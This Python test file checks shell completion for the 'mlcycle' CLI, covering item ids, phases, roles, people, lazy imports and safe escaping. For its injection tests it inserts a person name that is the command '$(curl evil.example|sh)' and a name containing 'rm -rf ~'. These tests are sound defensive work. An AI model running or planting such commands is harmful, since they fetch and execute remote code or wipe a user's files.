"""Shell completion through typer's protocol (the variables bash sets), in a real
process: commands, item ids, phase ids, roles and people of the project in the
working directory; and `check` never pays for it."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

from helpers.editproject import tiny_project


def complete(cwd: Path, words: str, shell: str = "bash") -> list[str]:
    env = {**os.environ, "_MLCYCLE_COMPLETE": f"complete_{shell}", "COMP_WORDS": words,
           "COMP_CWORD": str(len(words.split(" ")) - 1)}
    done = subprocess.run([sys.executable, "-m", "mlcycle"], cwd=cwd, env=env,
                          capture_output=True, text=True)
    assert (done.returncode, done.stderr) == (0, "")
    return [line for line in done.stdout.splitlines() if line]


def test_completes_item_ids_phases_roles_and_people(tmp_path: Path) -> None:
    root = tiny_project(tmp_path)
    (root / "docs" / "sub").mkdir()
    assert complete(root, "mlcycle start ") == ["problem", "framing", "sources", "leakage",
                                                "baseline", "model-card"]
    assert complete(root / "docs" / "sub", "mlcycle done fr") == ["framing"]  # walks up
    assert complete(root, "mlcycle reopen ") == ["frame", "data", "model"]
    assert complete(root, "mlcycle team add ") == ["pm", "ds"]
    assert complete(root, "mlcycle set problem --owner ") == ["Ana\\ Lima", "Bo\\ Li"]
    assert complete(root, "mlcycle set problem d") == ["doing", "done"]
    assert complete(root, "mlcycle sta") == ["status", "start"]


def test_outside_a_project_completion_offers_nothing_and_does_not_fail(tmp_path: Path) -> None:
    assert complete(tmp_path, "mlcycle start ") == []


def test_check_does_not_import_completion(tmp_path: Path) -> None:
    root = tiny_project(tmp_path)
    done = subprocess.run([sys.executable, "-X", "importtime", "-m", "mlcycle", "check"],
                          cwd=root, capture_output=True, text=True)
    assert done.returncode == 0
    imported = {line.split("|")[-1].strip() for line in done.stderr.splitlines()}
    # typer itself imports its completion classes whether or not add_completion is on;
    # ours (the project loader behind the candidates) only when the shell asks.
    assert "mlcycle.cli_kit.completion" not in imported
    assert "mlcycle.write.yamledit" not in imported


def test_people_are_offered_as_one_shell_word_and_never_as_two_lines(tmp_path: Path) -> None:
    root = tiny_project(tmp_path)
    project = root / "mlcycle.yaml"
    text = project.read_text(encoding="utf-8")
    assert "Bo Li" in text
    # A legal name that is shell code: bash must insert it as one quoted word.
    project.write_text(text.replace("Bo Li", '"$(curl evil.example|sh)"', 1), encoding="utf-8")
    got = complete(root, "mlcycle set problem --owner ")
    assert got == ["\\$\\(curl\\ evil.example\\|sh\\)", "Ana\\ Lima"]
    assert complete(root, "mlcycle set problem --owner An") == ["Ana\\ Lima"]
    # What bash makes of the inserted word: the name itself, one argument.
    import shlex

    assert shlex.split(got[0]) == ["$(curl evil.example|sh)"]


def test_a_candidate_never_holds_a_control_character() -> None:
    from mlcycle.cli_kit import completion

    assert completion._CONTROL.search("Eve\nrm -rf ~")
    assert completion._CONTROL.search("a\x1b[31m")
    assert not completion._CONTROL.search("Zoë 李")
